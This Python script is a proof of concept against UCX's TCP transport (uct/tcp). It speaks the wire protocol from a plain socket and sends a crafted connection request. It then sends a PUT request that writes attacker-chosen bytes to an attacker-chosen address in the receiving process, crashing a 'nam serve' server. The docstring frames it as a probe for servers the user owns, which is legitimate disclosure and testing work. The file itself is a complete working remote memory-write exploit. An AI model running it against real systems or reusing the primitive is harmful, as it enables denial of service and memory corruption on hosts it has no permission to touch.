#!/usr/bin/env python3
"""Probe a UCX TCP data port for the PUT-request flaw described in docs/security.md
("UCX's TCP transport trusts the address in a peer's PUT request").

Speaks UCX's TCP transport (uct/tcp, UCX 1.22) from a plain socket: the 8-byte magic number,
a connection request, then one PUT request of 8 bytes at ADDRESS (default 0x10, an unmapped
page) of the receiving process. No nam message, Hello or token is involved. It prints whether
the port answered the handshake and whether the connection was still open afterwards; check
the target process (for a `nam serve`: exit status 139, "segfault at 10" in the kernel log).

Usage: ucx-tcp-put-probe.py HOST PORT [ADDRESS_HEX]
Find a server's data ports with `ss -ltnp` (every listening port of its pid but the one
`nam serve` printed). Run it only against a server you own.
"""
import os
import socket
import struct
import sys

MAGIC = 0xCAFEBABE12345678      # UCT_TCP_MAGIC_NUMBER
CM_AM_ID, PUT_REQ_AM_ID = 32, 33  # UCT_AM_ID_MAX and UCT_AM_ID_MAX + 1
CONN_REQ = 1                      # uct_tcp_cm_conn_event_t


def am(am_id, payload):
    """A uct_tcp_am_hdr_t (u8 id, u32 length, packed) and its payload."""
    return struct.pack("<BI", am_id, len(payload)) + payload


def main():
    host, port = sys.argv[1], int(sys.argv[2])
    address = int(sys.argv[3], 16) if len(sys.argv) > 3 else 0x10
    s = socket.create_connection((host, port), timeout=3)
    s.sendall(struct.pack("<Q", MAGIC))
    # The connection request: event, flags, a fresh connection number, and a sockaddr_in
    # naming no real interface, so the receiver matches it to no endpoint of its own.
    sockaddr = struct.pack("<H", socket.AF_INET) + struct.pack(">H", 1) + socket.inet_aton("127.0.0.1") + bytes(8)
    request = struct.pack("<IBQ", CONN_REQ, 0, int.from_bytes(os.urandom(8), "little")) + sockaddr
    s.sendall(am(CM_AM_ID, request))
    try:
        reply = s.recv(64)
        print(f"handshake reply: {reply.hex() or 'none (closed)'}")
    except socket.timeout:
        print("no handshake reply within 3 s")
    data = b"\x41" * 8
    s.sendall(am(PUT_REQ_AM_ID, struct.pack("<QQI", address, len(data), 1)) + data)
    try:
        after = s.recv(64)
        print("after the PUT request: connection", "closed" if not after else f"answered {after.hex()}")
    except socket.timeout:
        print("after the PUT request: connection still open, no answer within 3 s")
    except OSError as e:
        print(f"after the PUT request: {e}")


if __name__ == "__main__":
    main()
